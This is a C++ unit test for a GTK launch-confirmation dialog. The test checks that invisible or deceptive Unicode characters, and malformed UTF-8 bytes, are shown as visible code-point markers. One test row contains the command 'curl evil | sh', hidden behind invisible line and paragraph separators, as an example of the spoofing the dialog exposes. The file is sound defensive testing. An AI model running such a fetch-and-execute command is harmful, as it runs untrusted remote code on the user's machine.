// What the launch confirmation marks, by GLib's Unicode tables.
#include "dialogs/gtk/unicode_look_gtk.h"

#include <gtest/gtest.h>

namespace vantile {
namespace {

TEST(UnicodeLook, EveryCharacterThatDoesNotPlainlyShowAsItselfIsMarked) {
  const std::pair<const char*, const char*> rows[] = {
      {"echo Welcome\u2028\u2029; curl evil | sh", "echo Welcome<U+2028><U+2029>; curl evil | sh"},
      {"x\u00ADy\u2060z\U000E0041", "x<U+00AD>y<U+2060>z<U+E0041>"},    // soft hyphen, word joiner, tag
      {"a\u00A0b\u3000c\u200Bd", "a<U+00A0>b<U+3000>c<U+200B>d"},       // spaces that are not the space
      {"\u0301x \u0301", "<U+0301>x <U+0301>"},                           // combining marks alone
      {"e\u0301 \u1100\u1161 \u00E9", "e\u0301 \u1100\u1161 \u00E9"},  // and joined: shown as written
      {"\u3164\u115F\u034F\uFE0F", "<U+3164><U+115F><U+034F><U+FE0F>"},  // default-ignorable letters, marks
      {"\uE000\U0010FFFD\U000E0080\u0085", "<U+E000><U+10FFFD><U+E0080><U+0085>"},  // private, unassigned, C1
      {"\xED\xA0\x80 \xC0\xAF \xF4\x90\x80\x80", "<0xED><0xA0><0x80> <0xC0><0xAF> <0xF4><0x90><0x80><0x80>"},
  };
  for (const auto& [text, shown] : rows) EXPECT_EQ(VisibleText(text, UnicodeLook), shown) << shown;
  EXPECT_EQ(CharacterCount("x\u00ADy"), "3 characters");
  EXPECT_EQ(CharacterCount("\xFF"), "1 character");
}

}  // namespace
}  // namespace vantile
